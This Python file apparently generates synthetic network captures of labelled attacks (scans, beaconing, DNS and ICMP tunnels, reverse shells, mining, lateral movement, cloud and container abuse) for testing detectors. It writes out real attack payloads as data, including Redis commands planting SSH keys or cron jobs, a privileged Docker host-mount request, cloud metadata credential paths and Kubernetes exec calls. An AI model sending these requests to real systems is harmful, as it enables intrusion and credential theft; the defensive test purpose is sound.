# SPDX-License-Identifier: Apache-2.0
"""What bad people inside do: ports, tunnels, containers, images, ways out."""
import base64
import json
import struct

from estate import SEC, new_uuid, wire
from ways import spaced


def ports(e):
    r, src = e.rng, e.pod
    shape = r.choice(["down", "across", "both", "slow"])
    hosts = [e.net(r.choice([2, 3, 4]), k) for k in r.sample(range(1, 250), 40)]
    known = r.sample(range(1, 10000), 60)
    if shape == "down":
        pairs = [(hosts[0], p) for p in known]
    elif shape == "across":
        pairs = [(h, 445) for h in hosts]
    else:
        pairs = [(h, p) for h in hosts[:10] for p in known[:r.randint(5, 12)]]
    r.shuffle(pairs)
    pace = (5, 20) if shape == "slow" and not e.dense else (0.005, 0.3)
    refused = r.random()
    for (h, p), ns in zip(pairs, spaced(e, len(pairs), *pace)):
        e.syn(ns, src, h, p, r.random() < refused)
    return "port_scan", {src}, {h for h, _ in pairs}


def ports_udp(e):
    r, src, dst = e.rng, e.net(2, 73), e.net(3, 9)
    for p, ns in zip(r.sample(range(1, 9000), 60), spaced(e, 60, 0.05, 1)):
        e.cap.udp(ns, src, 40000 + r.randrange(9000), dst, p, b"\0" * 8)
    return "port_scan", {src}, {dst}


def ports_slow(e):
    r, src = e.rng, e.net(2, 74)
    dst = e.net(3, 10)
    for p, ns in zip(r.sample(range(1, 9000), 40), spaced(e, 40, 60, 400)):
        e.syn(ns, src, dst, p, r.random() < .5)
    return "port_scan", {src}, {dst}


def beacon(e):
    r, src, dst = e.rng, e.services["pay"][0], e.outside()
    period = r.choice([2, 5, 10]) if e.dense else r.choice([10, 60, 300])
    n = min(r.randint(40, 120), int(e.length / SEC * 0.9 / period))
    jitter, ns = r.choice([0.02, 0.1, 0.2, 0.3]), e.start + int(e.length * 0.04)
    shape = r.choice(["get", "post", "raw", "id"])
    for i in range(n):
        if shape == "get":
            e.http(ns, src, dst, 80, "GET", "/jquery.min.js", [("Host", "cdn.example")], answer=b"x" * r.randint(20, 90), ctype="text/javascript")
        elif shape == "post":
            e.http(ns, src, dst, 8443, "POST", "/submit.php?id=%d" % r.randrange(10**8), body=base64.b64encode(r.randbytes(60)), answer=b"ok")
        elif shape == "id":
            e.http(ns, src, dst, 80, "GET", "/t/%s" % new_uuid(r), answer=b"")
        else:
            e.raw(ns, src, dst, 4444, [(0, r.randbytes(48)), (1, r.randbytes(16))])
        ns += int(period * (1 + r.uniform(-jitter, jitter)) * SEC)
    return "beaconing", {src}, {dst}


def beacon_long(e):
    r, src, dst = e.rng, e.services["notify"][0], e.outside()
    period = 4 if e.dense else 600
    ns = e.start + int(e.length * 0.1)
    for i in range(min(60, int(e.length / SEC * .8 / period))):
        e.http(ns, src, dst, 443, "GET", "/" + new_uuid(r)[:r.randint(4, 8)], [("Host", "cdn.x")], answer=b"", status=r.choice([200, 404]))
        ns += int(period * (1 + r.uniform(-.45, .45)) * SEC)
    return "beaconing", {src}, {dst}


def edge(e):
    r, src = e.rng, e.gw
    if r.random() < 0.5:
        greeting = b"\x4a\x00\x00\x00\x0a8.0.32\x00" + r.randbytes(70)
        for ns in spaced(e, 3, 5, 30, 0.95)[-3:]:
            e.raw(max(ns, e.start + int(e.length * 0.85)), src, e.db, 3306, [(1, greeting), (0, r.randbytes(120)), (1, r.randbytes(11))])
        return "new_edge", {src}, {e.db}
    ip, port = e.net(7, 20), 8090
    for k in range(4):
        e.http(e.start + int(e.length * 0.85) + k * 3 * SEC, e.services["customer"][0], ip, port, "POST", "/services/Ledger",
               [("Content-Type", "application/json")], b'{"q":1}')
    return "new_edge", {e.services["customer"][0]}, {ip}


def kubelet(e):
    r = e.rng
    for i, ns in enumerate(spaced(e, r.randint(2, 5), 2, 20)):
        e.http(ns, e.pod, e.node, 10250, *r.choice([("POST", "/run/pay/api-%d/app" % i), ("GET", "/pods"), ("POST", "/exec/kube-system/p/c?command=id&output=1"),
                                                    ("GET", "/runningpods/")]), answer=b'{"kind":"PodList","items":[]}')
    return "pod_to_kubelet", {e.pod}, {e.node}


def redis(e):
    cmds = e.rng.choice([[b"config set dir /root/.ssh", b"config set dbfilename authorized_keys", b"save"],
                         [b"CONFIG SET dir /var/spool/cron", b"CONFIG SET dbfilename root", b"BGSAVE"],
                         [b"SLAVEOF 45.9.1.2 6379", b"MODULE LOAD /tmp/exp.so"]])
    talk = []
    for c in cmds:
        parts = c.split(b" ")
        talk += [(0, b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts)), (1, b"+OK\r\n")]
    e.raw(e.at(0.2, 0.9), e.services["pay"][0], e.redis, 6379, talk)
    return "redis_config_abuse", {e.services["pay"][0]}, {e.redis}


def kubernetes(e):
    r = e.rng
    calls = [("GET", "/version"), ("GET", "/api/v1/namespaces"), ("GET", "/api/v1/namespaces/default/secrets"), ("GET", "/api/v1/secrets"),
             ("POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"),
             ("POST", "/api/v1/namespaces/default/pods/web-0/exec?command=sh&stdin=true"), ("POST", "/api/v1/namespaces/default/pods")]
    for (m, p), ns in zip(calls, spaced(e, len(calls), 0.3, 4)):
        e.http(ns, e.net(2, 66), e.apiserver, 6443, m, p, body=b'{"kind":"X"}' if m == "POST" else b"", answer=b'{"kind":"List","apiVersion":"v1","items":[]}')
    return "k8s_api", {e.net(2, 66)}, {e.apiserver}


def metadata(e):
    r = e.rng
    ip, paths = r.choice([("169.254.169.254", ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/meta-data/iam/security-credentials/node"]),
                          ("100.100.100.200", ["/latest/meta-data/", "/latest/meta-data/ram/security-credentials/", "/latest/meta-data/ram/security-credentials/ecs"]),
                          ("169.254.169.254", ["/computeMetadata/v1/instance/service-accounts/default/token"]),
                          ("169.254.0.23", ["/latest/meta-data/cam/security-credentials/node"])])
    for p, ns in zip(paths, spaced(e, len(paths), 0.4, 3)):
        e.http(ns, e.net(2, 67), ip, 80, "GET", p, answer=b"node-role", ctype="text/plain", host=ip)
    return "cloud_metadata", {e.net(2, 67)}, {ip}


def tunnel(e):
    r, src = e.rng, e.net(2, 68)
    alphabet = r.choice(["abcdefghijklmnopqrstuvwxyz234567", "0123456789abcdef"])
    kind, n = r.choice([16, 1, 10]), r.randint(60, 200)
    for i, ns in enumerate(spaced(e, n, 0.1, 1.5)):
        label = "".join(r.choice(alphabet) for _ in range(r.randint(36, 58)))
        answer = b"\x20" + r.randbytes(32) if kind == 16 else bytes([127, 0, 0, 1]) if kind == 1 else r.randbytes(24)
        e.ask(ns, src, "%04x.%s.t.evil-cdn.com" % (i, label), kind, answer)
    return "dns_tunnelling", {src}, {e.dns}


def made_up(e):
    r, src = e.rng, e.net(2, 69)
    for ns in spaced(e, r.randint(50, 150), 0.05, 2):
        e.ask(ns, src, "".join(r.choice("bcdfghjklmnpqrstvwxzaeiou0123456789") for _ in range(r.randint(11, 18))) + r.choice([".com", ".net", ".info"]), 1, None, 3)
    return "dga", {src}, {e.dns}


def image(e):
    r, src = e.rng, e.net(9, 30)
    name = r.choice(["bank/customer", "library/nginx", "pay/api"])
    digest = "sha256:%064x" % r.getrandbits(256)
    mime = "application/vnd.docker.distribution.manifest.v2+json"
    manifest = json.dumps({"schemaVersion": 2, "mediaType": mime, "config": {"digest": "sha256:%064x" % r.getrandbits(256), "size": 900},
                           "layers": [{"digest": "sha256:%064x" % r.getrandbits(256), "size": 10000}]}).encode()
    times = spaced(e, 3, 0.05, 0.5)
    e.http(times[0], src, e.registry, 5000, "GET", "/v2/", answer=b"{}", answer_headers=[("Docker-Distribution-Api-Version", "registry/2.0")])
    for ns, m in zip(times[1:], ("HEAD", "GET")):
        e.http(ns, src, e.registry, 5000, m, "/v2/%s/manifests/%s" % (name, r.choice(["latest", "v1.2"])), answer=b"" if m == "HEAD" else manifest,
               ctype=mime, answer_headers=[("Docker-Content-Digest", digest)])
    return "image_pull_tag", {src}, {e.registry}


def docker(e):
    src, dst = e.net(2, 71), e.net(9, 40)
    body = json.dumps({"Image": "alpine", "Cmd": ["sh"], "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}}).encode()
    times = spaced(e, 3, 0.5, 4)
    e.http(times[0], src, dst, 2375, "GET", "/v1.41/containers/json", answer=b"[]")
    e.http(times[1], src, dst, 2375, "POST", "/v1.41/containers/create", [("Content-Type", "application/json")], body, 201, b'{"Id":"%064x","Warnings":[]}' % 7)
    e.http(times[2], src, dst, 2375, "POST", "/v1.41/containers/%064x/start" % 7, (), b"", 204, b"")
    return "docker_api", {src}, {dst}


def shell(e):
    r, src, dst = e.rng, e.services["notify"][0], e.outside()
    talk = []
    for cmd in r.sample([b"id\n", b"uname -a\n", b"ls -la /\n", b"cat /etc/passwd\n", b"ps aux\n", b"ip a\n", b"whoami\n"], 6):
        talk += [(1, cmd), (0, bytes(r.choice(b"abcdefgh /.:-\n") for _ in range(r.randint(100, 1200))) + b"$ ")]
    t = wire.Tcp(e.cap, e.at(0.2, 0.8), src, e.port(src), dst, r.choice([4444, 9001, 1337]), isn=5)
    for who, data in talk:
        t.send(who, data)
        t.wait(r.randint(1, 6) * SEC)
    t.close()
    return "reverse_shell", {src}, {dst}


def mining(e):
    r, src, dst = e.rng, e.net(2, 72), e.outside()
    t = wire.Tcp(e.cap, e.at(0.2, 0.8), src, e.port(src), dst, r.choice([3333, 14444, 80]), isn=5)
    t.send(0, r.choice([b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n',
                        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edf","pass":"x","agent":"XMRig/6.20.0"}}\n']))
    t.send(1, b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a","job":{"blob":"0e0e","job_id":"1","target":"b88d0600"},"status":"OK"}}\n')
    for i in range(5):
        t.wait(4 * SEC)
        t.send(0, b'{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"a","job_id":"1","nonce":"%08x","result":"00"}}\n' % (i + 2, i))
        t.send(1, b'{"id":%d,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n' % (i + 2))
    t.close()
    return "mining_pool", {src}, {dst}


def spread(e):
    r, src = e.rng, e.services["account"][0]
    hosts = [e.net(2, 100 + k) for k in range(r.randint(12, 30))]
    ns = e.start + int(e.length * r.uniform(0.55, 0.75))
    for h in hosts:
        ns += int(r.uniform(1, 8) * SEC)
        e.raw(ns, src, h, 22, [(1, b"SSH-2.0-OpenSSH_8.9\r\n"), (0, b"SSH-2.0-libssh_0.9\r\n"), (0, r.randbytes(300)), (1, r.randbytes(300))])
    return "lateral_spread", {src}, set(hosts)


def etcd(e):
    src, dst = e.net(2, 77), e.net(9, 3)
    for ns in spaced(e, 3, 1, 5):
        e.http(ns, src, dst, 2379, "POST", "/v3/kv/range", [("Content-Type", "application/json")],
               b'{"key":"L3JlZ2lzdHJ5L3NlY3JldHMv","range_end":"L3JlZ2lzdHJ5L3NlY3JldHMw"}', answer=b'{"header":{"cluster_id":"1"},"kvs":[{"key":"L3Jl","value":"azhz"}],"count":"1"}')
    return "etcd_read", {src}, {dst}


def dashboard(e):
    src, dst = e.net(2, 78), e.net(9, 4)
    for ns, p in zip(spaced(e, 3, 1, 9), ("/api/v1/namespaces/kube-system/services/https:kubernetes-dashboard:/proxy/", "/kubernetes-dashboard/api/v1/secret/default",
                                          "/kubernetes-dashboard/api/v1/pod/default")):
        e.http(ns, src, dst, 8001, "GET", p, answer=b'{"listMeta":{"totalItems":3},"secrets":[]}')
    return "cluster_dashboard", {src}, {dst}


def spread_smb(e):
    r, src = e.rng, e.services["auth"][0]
    port, talk = r.choice([(445, [(0, b"\0\0\0\x45\xffSMB\x72" + b"\0" * 60), (1, b"\0\0\0\x40\xfeSMB" + b"\0" * 60)]),
                           (3389, [(0, b"\x03\x00\x00\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0"), (1, b"\x03\x00\x00\x13\x0e\xd0\0\0\x12\x34\0\x02\0\x08\0\x02\0\0\0")]),
                           (5985, [(0, wire.request("POST", "/wsman", "h", [("Content-Type", "application/soap+xml"), ("Authorization", "Negotiate TlRMTVNTUAAB")], b"")),
                                   (1, wire.response(401, "text/plain", b"", [("WWW-Authenticate", "Negotiate")]))])])
    hosts = [e.net(3, 100 + k) for k in range(r.randint(14, 30))]
    ns = e.start + int(e.length * r.uniform(0.55, 0.75))
    for h in hosts:
        ns += int(r.uniform(1, 8) * SEC)
        e.raw(ns, src, h, port, talk)
    return "lateral_spread", {src}, set(hosts)


def echo_pair(e, ns, a, b, ident, seq, ask, answer=None):
    def packet(kind, data):
        head = struct.pack("!BBHHH", kind, 0, 0, ident, seq)
        return struct.pack("!BBHHH", kind, 0, wire.checksum(head + data), ident, seq) + data
    e.cap.ip(ns, a, b, 1, packet(8, ask))
    e.cap.ip(ns + 9000000, b, a, 1, packet(0, ask if answer is None else answer))


def icmp_tunnel(e):
    r, src, dst = e.rng, e.services["customer"][0], e.outside()
    shape = r.choice(["both", "up", "down"])
    for i, ns in enumerate(spaced(e, r.randint(80, 300), 0.1, 2)):
        ask = r.randbytes(r.choice([64, 200, 1024])) if shape != "down" else b"\0" * 32
        echo_pair(e, ns, src, dst, 77, i, ask, None if shape == "up" else r.randbytes(r.randint(60, 900)))
    return "icmp_tunnelling", {src}, {dst}


def pushed(e):
    """A denied, unsigned image is none of ours: a host that never pushed pushes over a tag that others pull."""
    r, ci, thief = e.rng, e.net(9, 31), e.net(2, 81)
    mime = "application/vnd.docker.distribution.manifest.v2+json"

    def push(ns, src, tag):
        digest = "sha256:%064x" % r.getrandbits(256)
        m = json.dumps({"schemaVersion": 2, "mediaType": mime, "config": {"digest": "sha256:%064x" % r.getrandbits(256), "size": 9},
                        "layers": [{"digest": "sha256:%064x" % r.getrandbits(256), "size": 9}]}).encode()
        e.http(ns, src, e.registry, 5000, "PUT", "/v2/pay/core/manifests/%s" % tag, [("Content-Type", mime), ("Authorization", "Basic Y2k6cGFzcw==")], m, 201,
               b"", answer_headers=[("Docker-Content-Digest", digest), ("Docker-Distribution-Api-Version", "registry/2.0")])
    for k, ns in enumerate(spaced(e, 12, 20, 60, 0.2)):
        push(min(ns, e.start + int(e.length * 0.6)), ci, "v1.%d" % k)
    push(e.start + int(e.length * 0.9), thief, "v1.3")
    return "image_tag_moved|image_push_new", {thief}, {e.registry}
